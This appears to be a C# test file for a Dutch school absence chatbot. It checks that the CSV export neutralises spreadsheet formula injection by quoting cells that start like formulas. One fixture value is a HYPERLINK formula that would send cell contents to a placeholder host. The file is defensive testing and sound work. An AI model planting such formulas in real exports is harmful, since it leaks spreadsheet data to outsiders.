using System.Globalization;
using System.Net;
using System.Text;
using CsvHelper;
using OuderBot.Absence;
using OuderBot.Tests.Infrastructure;

namespace OuderBot.Tests.Absence;

// A school file is the office's to edit, and a name in it can be anything the office typed or pasted. The CSV
// export goes to a spreadsheet, which runs a cell that starts with = + - @ (or a tab or CR) as a formula.
public sealed class AbsenceCsvFormulaTests : IAsyncLifetime
{
    private const string ApiKey = "office-secret";
    private const string Hyperlink = "=HYPERLINK(\"http://x.example/\"&A1,\"klik\")";

    // (parent's phone, parent's name, child's first name): every name starts like a formula.
    private static readonly (string Phone, string Parent, string Child)[] Families =
    [
        ("+31611111111", Hyperlink, "+Bibi"),
        ("+31622222222", "-Lotte Bakker", "@Tim"),
        ("+31644444444", "@Fatma", "=1+2"),
        ("+31655555555", "+Karim", "-Sami"),
    ];

    private readonly string _schoolFile = Path.Combine(Path.GetTempPath(), $"ouderbot-formula-school-{Guid.NewGuid():N}.yaml");
    private BotApp _app = null!;

    public async Task InitializeAsync()
    {
        await File.WriteAllTextAsync(_schoolFile, SchoolFile());
        _app = new BotApp(settings: new Dictionary<string, string?> { ["School:Path"] = _schoolFile, ["Admin:ApiKey"] = ApiKey });
        await _app.WaitUntilHealthyAsync();
        foreach (var (phone, _, child) in Families)
        {
            await _app.RunAsync(phone, $"""
                > Ik wil mijn kind ziekmelden
                <~ Voor welke dag wilt u {child} ziek melden?
                > vandaag
                <~ Klopt dat?
                > ja
                <~ Ik heb genoteerd
                """);
        }
    }

    public async Task DisposeAsync()
    {
        await _app.DisposeAsync();
        File.Delete(_schoolFile);
    }

    [Fact]
    public async Task NamesThatStartLikeAFormulaReachTheSpreadsheetAsTextWithAQuoteInFront()
    {
        using var client = _app.CreateClient();
        client.DefaultRequestHeaders.Add("X-Api-Key", ApiKey);
        var response = await client.GetAsync("/api/admin/absences?from=2026-11-24&to=2026-11-24&format=csv");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]); // still UTF-8 with a byte order mark, for Excel

        var rows = Parse(bytes);

        Assert.Equal(["date", "group", "child", "kind", "from", "until", "reported by", "reported at"], rows[0]);
        Assert.Equal(Families.Length, rows.Count - 1);
        foreach (var (_, parent, child) in Families)
        {
            var row = Assert.Single(rows, r => r[2] == "'" + child);
            Assert.Equal("'" + parent, row[6]);
            Assert.Equal("2026-11-24", row[0]);
            Assert.Equal("sick", row[3]);
        }

        Assert.Equal("'@Groep 1", Assert.Single(rows, r => r[2] == "'+Bibi")[1]);
        Assert.Equal("Groep 2", Assert.Single(rows, r => r[2] == "'@Tim")[1]);
    }

    [Fact]
    public void ACellThatStartsWithATabOrACarriageReturnIsNeutralisedToo()
    {
        var row = new AbsenceRow("2026-11-24", "kim-g1", "\tKim", "1", "\r=1+2", "sick", null, null, "-", [], BotApp.TuesdayMorning, "sms", false, false, false);

        var rows = Parse(AbsenceEndpoints.Csv([row]));

        Assert.Equal(["2026-11-24", "'\r=1+2", "'\tKim", "sick", "", "", "'-", "2026-11-24 07:45"], rows[1]);
    }

    private static List<string[]> Parse(byte[] csv)
    {
        var rows = new List<string[]>();
        var text = Encoding.UTF8.GetString(csv).TrimStart('\uFEFF');
        using var reader = CsvReader.FromText(text, CsvReaderOptions.Default with { HasHeader = false, Separator = ',' });
        while (reader.Read())
        {
            rows.Add(Enumerable.Range(0, reader.FieldCount).Select(reader.GetString).ToArray());
        }

        return rows;
    }

    private static string SchoolFile()
    {
        var yaml = new StringBuilder("""
            name: Test
            address: Straat 1
            phone: 030 1234567
            email: info@test.example
            director: { name: Directeur }
            times:
              tuesday: { start: "08:30", end: "14:30" }
            groups:
              - { id: "1", name: "@Groep 1" }
              - { id: "2", name: Groep 2 }
            teachers:
              - { name: Juf, email: juf@test.example, groups: ["1", "2"] }
            families:

            """);
        foreach (var ((phone, parent, child), index) in Families.Select((f, i) => (f, i)))
        {
            var group = index % 2 + 1; // Bibi and "=1+2" in group 1, the others in group 2
            yaml.Append(CultureInfo.InvariantCulture, $"  - parents: [ {{ name: {Quoted(parent)}, phone: \"{phone}\" }} ]\n");
            yaml.Append(CultureInfo.InvariantCulture, $"    children: [ {{ firstName: {Quoted(child)}, group: \"{group}\" }} ]\n");
        }

        return yaml.ToString();
    }

    private static string Quoted(string value) => "\"" + value.Replace("\\", "\\\\", StringComparison.Ordinal).Replace("\"", "\\\"", StringComparison.Ordinal) + "\"";
}
